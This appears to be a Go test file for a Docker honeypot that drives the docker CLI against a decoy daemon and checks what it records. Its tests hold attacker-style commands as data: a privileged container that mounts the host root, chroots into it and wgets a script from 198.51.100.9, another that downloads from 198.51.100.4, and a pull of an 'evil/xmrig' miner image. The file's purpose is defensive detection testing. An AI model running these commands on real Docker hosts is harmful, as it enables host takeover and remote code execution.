package docker

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bartizan/internal/decoy/decoytest"
	"bartizan/internal/observe"
)

// client is the real docker command line on a rig.
type client struct {
	t    *testing.T
	addr string
	home string
}

func cli(t *testing.T, r *rig) *client {
	t.Helper()
	if _, err := exec.LookPath("docker"); err != nil {
		t.Skip("the docker command line is not installed")
	}
	return &client{t: t, addr: r.Addr, home: t.TempDir()}
}

// run returns what the command printed and its exit code.
func (c *client) run(stdin string, args ...string) (stdout, stderr string, code int) {
	c.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "docker", args...)
	cmd.Env = append(os.Environ(), "DOCKER_HOST=tcp://"+c.addr, "DOCKER_CONFIG="+c.home)
	var out, errs bytes.Buffer
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(stdin), &out, &errs
	err := cmd.Run()
	if ctx.Err() != nil {
		c.t.Fatalf("docker %v hangs: %s %s", args, out.String(), errs.String())
	}
	if err != nil && cmd.ProcessState == nil {
		c.t.Fatal(err)
	}
	return out.String(), errs.String(), cmd.ProcessState.ExitCode()
}

// must is run that has to work.
func (c *client) must(args ...string) string {
	c.t.Helper()
	out, errs, code := c.run("", args...)
	if code != 0 {
		c.t.Fatalf("docker %v: exit %d: %s%s", args, code, out, errs)
	}
	return out
}

func TestCommandLineLooksAround(t *testing.T) {
	t.Parallel()
	r := start(t)
	c := cli(t, r)
	d := r.host.Docker
	if got := c.must("version", "--format", "{{.Server.Version}} {{.Server.APIVersion}} {{.Server.KernelVersion}} {{.Server.GoVersion}}"); got != d.Version+" "+d.APIVersion+" "+r.host.Kernel.Release+" "+d.GoVersion+"\n" {
		t.Errorf("version: %q", got)
	}
	if out := c.must("info"); !strings.Contains(out, "Server Version: "+d.Version) || !strings.Contains(out, "Name: "+r.host.Hostname) || !strings.Contains(out, r.host.Distro.PrettyName) {
		t.Errorf("info: %s", out)
	}
	ps := c.must("ps", "--no-trunc", "--format", "{{.ID}} {{.Names}} {{.Image}} {{.State}}")
	images := c.must("images", "--format", "{{.Repository}}:{{.Tag}}")
	for _, x := range r.host.Containers {
		if !strings.Contains(ps, x.ID+" "+x.Name+" "+x.Image+" running") {
			t.Errorf("ps does not show %s: %s", x.Name, ps)
		}
		if !strings.Contains(images, x.Image) {
			t.Errorf("images does not show %s: %s", x.Image, images)
		}
		if got := c.must("inspect", "--format", "{{.State.Status}} {{.Name}}", x.ID[:12]); got != "running /"+x.Name+"\n" {
			t.Errorf("inspect: %q", got)
		}
	}
	for _, args := range [][]string{{"volume", "ls"}, {"network", "ls"}, {"top", r.host.Containers[0].Name}, {"system", "df"}, {"network", "inspect", "bridge"}, {"logs", r.host.Containers[0].Name}} {
		c.must(args...)
	}
	for _, op := range []string{"GET /version", "GET /info", "GET /containers/json", "GET /images/json"} {
		r.called(op, "")
	}
}

func TestCommandLineTakesTheHost(t *testing.T) {
	t.Parallel()
	r := start(t)
	c := cli(t, r)
	out, errs, code := c.run("", "run", "--rm", "--privileged", "--net=host", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh", "-c", "id; cat /etc/hostname; wget -q http://198.51.100.9/d.sh -O /tmp/d.sh; exit 3")
	if code != 3 || !strings.Contains(out, "uid=0(root)") {
		t.Errorf("exit %d: %q %q", code, out, errs)
	}
	if !strings.Contains(errs, "Pull complete") || !strings.Contains(errs, "Status: Downloaded newer image for alpine:latest") {
		t.Errorf("pull: %s", errs)
	}
	got := r.called("POST /containers/create", "bind=/:/mnt")
	args := strings.Join(got.Call.Args, " ")
	for _, want := range []string{"image=alpine", "privileged=true", "networkmode=host", "cmd=chroot /mnt sh -c 'id;", "http://198.51.100.9/d.sh"} {
		if !strings.Contains(args, want) {
			t.Errorf("arguments lack %q: %s", want, args)
		}
	}
	if !strings.Contains(got.Call.Detail, `"Privileged":true`) || len(got.Evidence) != 1 {
		t.Errorf("detail %.200q, %d pieces of evidence", got.Call.Detail, len(got.Evidence))
	}
	r.commanded("chroot /mnt sh -c")
	r.saw("download", func(o *observe.Observation) bool {
		return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.9/d.sh" && o.Fetch.Tool == "wget"
	})
	if out := c.must("ps", "-aq"); strings.Count(out, "\n") != len(r.host.Containers) {
		t.Errorf("--rm leaves something: %s", out)
	}
}

func TestCommandLineLivesThere(t *testing.T) {
	t.Parallel()
	r := start(t)
	c := cli(t, r)
	id := strings.TrimSpace(c.must("run", "-d", "--name", "web1", "-e", "SECRET=x", "alpine", "sh", "-c", "echo out; echo err >&2; tail -f /dev/null"))
	if len(id) != 64 {
		t.Fatalf("run -d printed %q", id)
	}
	if out := c.must("ps", "--filter", "name=web1", "--format", "{{.State}} {{.Command}} {{.Status}}"); !strings.HasPrefix(out, "running \"sh -c 'echo out; ec…\" Up ") {
		t.Errorf("ps: %q", out)
	}
	poll(t, "the container's output", func() bool {
		out, errs, _ := c.run("", "logs", "web1")
		return out == "out\n" && errs == "err\n"
	})
	if out, errs, code := c.run("", "exec", "web1", "sh", "-c", "hostname; echo bad >&2; exit 7"); out != id[:12]+"\n" || errs != "bad\n" || code != 7 {
		t.Errorf("exec: %q %q %d", out, errs, code)
	}
	// What one command leaves, the next finds.
	c.must("exec", "web1", "sh", "-c", "echo payload > /tmp/p.sh")
	if out := c.must("exec", "web1", "cat", "/tmp/p.sh"); out != "payload\n" {
		t.Errorf("file of an earlier exec: %q", out)
	}
	r.saw("written file", func(o *observe.Observation) bool {
		return o.File != nil && o.File.Path == "/tmp/p.sh" && o.File.How == "docker" && o.File.Size == 8
	})
	if out, _, code := c.run("id -un\nexit 5\n", "exec", "-i", "web1", "sh"); out != "root\n" || code != 5 {
		t.Errorf("exec -i: %q, exit %d", out, code)
	}
	r.commanded("id -un")
	if _, errs, code := c.run("", "run", "--name", "web1", "alpine"); code != 125 || !strings.Contains(errs, "is already in use by container \""+id) {
		t.Errorf("name taken: %d %s", code, errs)
	}
	if _, errs, code := c.run("", "rm", "web1"); code == 0 || !strings.Contains(errs, "container is running") {
		t.Errorf("rm of a running container: %d %s", code, errs)
	}
	c.must("stop", "web1")
	if out := c.must("wait", "web1"); out != "137\n" {
		t.Errorf("wait: %q", out)
	}
	c.must("rename", "web1", "web2")
	c.must("start", "web2")
	c.must("rm", "-f", "web2")
	if _, errs, code := c.run("", "inspect", "web2"); code != 1 || !strings.Contains(errs, "o such object") {
		t.Errorf("inspect of a removed container: %d %s", code, errs)
	}
}

func TestCommandLineGivesInput(t *testing.T) {
	t.Parallel()
	r := start(t)
	c := cli(t, r)
	out, errs, code := c.run("uname -s\nwget http://198.51.100.4/x.sh\nexit 4\n", "run", "-i", "--rm", "-v", "/:/host", "ubuntu", "bash")
	if !strings.HasPrefix(out, "Linux\n") || code != 4 {
		t.Errorf("run -i: %q %q, exit %d", out, errs, code)
	}
	r.saw("download", func(o *observe.Observation) bool { return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.4/x.sh" })
	if out, errs, code := c.run("a\nb\n", "run", "-i", "--rm", "alpine", "wc", "-l"); strings.TrimSpace(out) != "2" || code != 0 {
		t.Errorf("run -i wc: %q %q %d", out, errs, code)
	}
	if out := c.must("run", "--rm", "-v", "/:/host:rw", "alpine", "cat", "/host/etc/hostname"); len(out) < 3 {
		t.Errorf("the host's file: %q", out)
	}
	if out := c.must("run", "--rm", "hello-world"); !strings.Contains(out, "Hello from Docker!") {
		t.Errorf("hello-world: %q", out)
	}
}

func TestCommandLineBringsThings(t *testing.T) {
	t.Parallel()
	r := start(t)
	c := cli(t, r)
	file := filepath.Join(t.TempDir(), "x.sh")
	if err := os.WriteFile(file, []byte("#!/bin/sh\nid\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c.must("create", "--name", "box", r.host.Containers[0].Image)
	c.must("cp", file, "box:/tmp/x.sh")
	got := r.saw("copied file", func(o *observe.Observation) bool { return o.File != nil && o.File.How == "docker" })
	if len(got.Evidence) != 1 || !bytes.Contains(got.Evidence[0].Data, []byte("#!/bin/sh\nid\n")) {
		t.Errorf("copied file: %+v", got.File)
	}
	c.must("pull", "evil/xmrig:2")
	r.called("POST /images/create", "fromImage=docker.io/evil/xmrig")
	if out := c.must("images", "evil/xmrig", "--format", "{{.Repository}}:{{.Tag}}"); !strings.Contains(out, "evil/xmrig:2") {
		t.Errorf("images: %q", out)
	}
	if out := c.must("inspect", "--type", "image", "--format", "{{.Os}}", "evil/xmrig:2"); out != "linux\n" {
		t.Errorf("image inspect: %q", out)
	}
	c.must("rmi", "evil/xmrig:2")
	if _, errs, code := c.run("", "login", "-u", "mallory", "-p", "hunter2", "registry.example"); code == 0 {
		t.Errorf("login works: %s", errs)
	}
}

// poll waits for something that no observation tells.
func poll(t *testing.T, what string, is func() bool) {
	t.Helper()
	end := time.NewTimer(decoytest.Patience)
	defer end.Stop()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for !is() {
		select {
		case <-tick.C:
		case <-end.C:
			t.Fatalf("waited in vain: %s", what)
		}
	}
}
